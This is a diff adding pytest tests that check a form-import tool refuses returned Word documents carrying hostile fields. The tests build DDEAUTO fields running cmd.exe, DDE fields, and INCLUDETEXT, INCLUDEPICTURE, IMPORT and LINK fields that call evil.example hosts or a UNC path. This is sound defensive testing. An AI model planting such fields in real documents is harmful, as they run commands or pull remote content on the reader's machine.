@@ -230,3 +230,102 @@ def test_a_form_with_a_huge_image_is_read_without_decoding_it(run, tmp_path):
     assert run.json("answers", "AL BEL 1/2025")["enquiries"][0]["revisions"][0]["text"] == (
         "See the photograph."
     )
+
+
+# --- returned forms with live fields (issue 13, class 11) --------------------------------
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def _w(tag: str, **attrs):
+    from lxml import etree
+
+    element = etree.Element(f"{{{W_NS}}}{tag}")
+    for name, value in attrs.items():
+        element.set(f"{{{W_NS}}}{name}", value)
+    return element
+
+
+def _complex_field(paragraph, *instructions: str) -> None:
+    """A field as Word writes it: begin, the instruction (maybe in several runs), separate,
+    a result, end."""
+
+    def run_with(child):
+        run = _w("r")
+        run.append(child)
+        paragraph._p.append(run)
+        return child
+
+    run_with(_w("fldChar", fldCharType="begin"))
+    for piece in instructions:
+        run_with(_w("instrText")).text = piece
+    run_with(_w("fldChar", fldCharType="separate"))
+    run_with(_w("t")).text = "result"
+    run_with(_w("fldChar", fldCharType="end"))
+
+
+def _simple_field(paragraph, instruction: str) -> None:
+    field = _w("fldSimple", instr=instruction)
+    run = _w("r")
+    run.append(_w("t"))
+    run[0].text = "result"
+    field.append(run)
+    paragraph._p.append(field)
+
+
+@pytest.fixture
+def returned_form(run, tmp_path):
+    from tests.helpers import fill_form
+
+    run("register", "AL BEL 1/2025", "--date", "2025-07-22", "--mandate", "torture")
+    run("assign", "AL BEL 1/2025", "--agency", "myria", "--question", "Q?")
+    form = run.root / "correspondence/AL-BEL-1-2025/enquiries/enquiry-myria.fr.docx"
+    return fill_form(form, tmp_path / "filled.docx", [[("", "No record found.", False)]])
+
+
+@pytest.mark.parametrize(
+    "where, kind, instructions, named",
+    [
+        ("body", "complex", [' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '], "DDEAUTO"),
+        ("body", "complex", [" dde ", 'excel "sheet1"'], "DDE"),
+        ("body", "complex", [" INCLUDE", 'TEXT "http://evil.example/x.docx" '], "INCLUDETEXT"),
+        ("header", "simple", [' INCLUDEPICTURE "http://evil.example/p" \\d '], "INCLUDEPICTURE"),
+        ("footer", "simple", [' LINK Excel.Sheet.8 "\\\\\\\\evil\\\\s.xls" "" \\a '], "LINK"),
+        ("footer", "complex", [' IMPORT "http://evil.example/i.wmf" '], "IMPORT"),
+    ],
+)
+def test_a_form_with_a_field_that_reaches_outside_is_refused(
+    run, returned_form, tmp_path, where, kind, instructions, named
+):
+    import docx
+
+    from tests.helpers import db_snapshot, tree
+
+    document = docx.Document(returned_form)
+    section = document.sections[0]
+    holder = {"body": document, "header": section.header, "footer": section.footer}[where]
+    paragraph = holder.add_paragraph()
+    if kind == "simple":
+        _simple_field(paragraph, instructions[0])
+    else:
+        _complex_field(paragraph, *instructions)
+    hostile = tmp_path / "hostile.docx"
+    document.save(hostile)
+    before, files_before = db_snapshot(run.root), tree(run.root)
+    result = run("answer", "import", str(hostile), code=1)
+    line = result.stderr.strip()
+    assert line.startswith("Error: hostile.docx: ") and "\n" not in line
+    assert f"{named} field" in line and "refused" in line
+    assert db_snapshot(run.root) == before and tree(run.root) == files_before
+
+
+def test_a_form_with_ordinary_fields_is_accepted(run, returned_form, tmp_path):
+    import docx
+
+    document = docx.Document(returned_form)
+    _complex_field(document.sections[0].footer.add_paragraph(), " PAGE ")
+    _simple_field(document.add_paragraph(), ' HYPERLINK "https://www.example.org" ')
+    ordinary = tmp_path / "ordinary.docx"
+    document.save(ordinary)
+    result = run("answer", "import", str(ordinary))
+    assert "stored as revision 1" in result.stdout
